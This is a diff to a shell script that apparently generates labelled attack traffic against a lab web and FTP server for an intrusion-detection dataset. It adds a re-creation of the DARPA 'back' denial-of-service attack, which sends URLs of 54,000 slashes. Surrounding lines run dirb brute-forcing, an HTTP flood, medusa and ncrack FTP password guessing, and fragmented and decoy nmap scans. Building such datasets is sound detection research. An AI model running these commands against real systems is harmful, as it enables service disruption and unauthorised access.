@@ -263,6 +263,12 @@ normal_web_ipv6() { for p in index about news contact; do
 web_dirb() {  # dirb with the first 300 words of its small list against nginx, over keep-alive
     head -300 /usr/share/dirb/wordlists/small.txt > "$WORK/dirb.txt"
     in_atk timeout 120 dirb "http://$S/" "$WORK/dirb.txt" -S -r >/dev/null 2>&1; }
+web_back() {  # DARPA's back: requests of 54,000 slashes (NSL-KDD's back rows send 54,540 bytes),
+    # 3 clients, 4 each; nginx answers 414 (URI too long) as a patched Apache would
+    local url="http://$S/$(head -c 54000 /dev/zero | tr '\0' /)"
+    for c in 1 2 3; do
+        (for i in $(seq 4); do in_atk curl -s --path-as-is -o /dev/null "$url"; sleep 0.3; done) &
+    done; wait; }
 http_flood() { in_atk ab -n 1000 -c 50 "http://$S/status.html" >/dev/null 2>&1; }  # a GET per connection
 medusa_ftp() { in_atk timeout 120 medusa -h $S -u alice -P "$WORK/words.txt" -M ftp -t 4 -f >/dev/null 2>&1; }
 ncrack_ftp() { in_atk timeout 120 ncrack --user alice -P "$WORK/words.txt" ftp://$S >/dev/null 2>&1; }
@@ -424,4 +430,5 @@ capture normal_snmp normal_snmp
 capture ftp_guess_proftpd ftp_guess_proftpd
 capture scan_frag nmap_scan -sS -f -p 1-300
 capture telnet_u2r telnet_u2r
+capture web_back web_back
 capture scan_decoy nmap_scan -sS -D 10.200.0.77,10.200.0.78,ME -p 1-300
